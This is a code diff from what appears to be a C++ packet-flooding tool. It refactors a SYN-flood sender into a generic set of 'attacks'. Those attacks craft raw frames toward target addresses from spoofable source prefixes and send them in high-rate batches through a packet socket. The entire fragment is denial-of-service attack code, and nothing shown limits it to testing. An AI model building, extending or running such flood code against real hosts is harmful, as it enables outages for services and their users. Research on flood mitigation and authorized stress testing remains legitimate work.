@@ -21,21 +21,25 @@ std::uint64_t random_seed() {
 
 Flood::Flood(const FloodSettings& settings)
     : rate_{settings.rate}, seconds_{settings.seconds}, socket_{settings.interface} {
-  floods_.reserve(settings.targets.size());
+  attacks_.reserve(settings.targets.size());
   for (const Target& target : settings.targets) {
     const auto sources = settings.sources.value_or(SourcePrefix::default_for(target.address()));
     const auto mac =
         settings.mac ? *settings.mac : resolve_neighbor(socket_.interface_index(), target.address());
-    floods_.push_back(make_syn_flood(target, sources, {socket_.mac(), mac}, random_seed(), settings.kind));
+    attacks_.push_back(make_attack(target, sources, {socket_.mac(), mac}, random_seed(), settings.mix));
   }
 }
 
 /// `count` segments, or as many as go into one system call; returns how many that were.
 std::size_t Flood::send_batch(std::uint64_t count) {
-  std::array<std::array<std::byte, kMaxSynBytes>, PacketSocket::kBatch> frames;
+  std::array<std::array<std::byte, kAttackRoom>, PacketSocket::kBatch> frames;
   std::array<std::span<std::byte>, PacketSocket::kBatch> spans;
   const auto batch = static_cast<std::size_t>(std::min<std::uint64_t>(count, frames.size()));
-  for (std::size_t i = 0; i < batch; ++i) spans[i] = next_syn(floods_[turn_++ % floods_.size()], frames[i]);
+  for (std::size_t i = 0; i < batch; ++i) {
+    AnyAttack& attack = attacks_[turn_++ % attacks_.size()];
+    const auto made = std::visit([&](auto& a) { return a.next(frames[i]).bytes; }, attack);
+    spans[i] = std::span{frames[i]}.first(made);
+  }
   const std::size_t sent = socket_.send(std::span{spans}.first(batch));
   sent_.fetch_add(sent, std::memory_order_relaxed);
   refused_.fetch_add(batch - sent, std::memory_order_relaxed);
